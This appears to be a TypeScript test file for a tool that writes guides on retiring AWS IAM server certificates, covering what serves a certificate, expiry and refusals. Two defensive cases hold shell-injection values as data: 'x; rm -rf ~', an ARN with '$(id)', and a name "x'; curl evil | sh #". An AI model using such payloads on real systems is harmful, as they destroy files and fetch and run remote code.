import { is, madeAccount, madeCertificate, none } from '../../../account/cases.ts';
import { unknown } from '../../../account/part.ts';
import type { ActionCase } from '../../cases.ts';

const account = (over: Parameters<typeof madeCertificate>[1] = {}) => madeAccount({ serverCertificates: [madeCertificate('Web', over)] });
const target = 'server-certificate:web';
const listener = 'arn:aws:elasticloadbalancing:eu-west-1:111122223333:listener/app/x/1/2';
const distribution = 'arn:aws:cloudfront::111122223333:distribution/E1EXAMPLE';

export const cases: readonly ActionCase[] = [
  {
    name: 'what serves it, by Region, and CloudFront in us-east-1',
    state: account({ boundTo: is([listener, distribution]) }),
    target,
    expect: 'guide',
    says: [
      `In eu-west-1, ${listener} serves it.`,
      `In us-east-1, ${distribution} serves it.`,
      "for region in 'eu-west-1' 'us-east-1'; do",
      'ServerCertificateName=\\"Web\\"',
      'in 304 days',
      'delete-expired-server-certificate',
    ],
  },
  {
    name: 'what serves it is not known, so every Region is looked at',
    state: account({ boundTo: unknown('not read') }),
    target,
    expect: 'guide',
    says: ['Find out what serves Web', 'describe-regions', 'could not read what serves it'],
  },
  { name: 'nothing serves it', state: account(), target, expect: 'guide', says: ['Nothing is known to serve Web'] },
  {
    name: 'nothing serves it, told in the other way',
    state: account({ boundTo: none }),
    target,
    expect: 'guide',
    says: ['Nothing is known to serve Web'],
  },
  {
    name: 'one that has expired',
    state: account({ expires: is('2026-01-01T00:00:00Z') }),
    target,
    expect: 'guide',
    says: ['Web expired at 2026-01-01T00:00:00Z'],
  },
  {
    name: 'one whose id and end are not known',
    state: account({ id: unknown('not read'), expires: unknown('not read') }),
    target,
    expect: 'guide',
    says: ['ServerCertificateMetadata.ServerCertificateId', 'When Web expires is not known'],
  },
  {
    name: 'what is no ARN goes into no program',
    state: account({ boundTo: is(['arn:aws:elasticloadbalancing:$(id):111122223333:x', 'x; rm -rf ~']) }),
    target,
    expect: 'guide',
    says: ['Nothing is known to serve Web'],
  },
  { name: 'one that is not there', state: account(), target: 'server-certificate:other', expect: 'refused' },
  {
    name: 'a name that IAM never gave goes into no program',
    state: madeAccount({ serverCertificates: [madeCertificate("x'; curl evil | sh #\n")] }),
    target: "server-certificate:x'; curl evil | sh #\n",
    expect: 'refused',
    says: ['is no name that IAM gives'],
  },
];
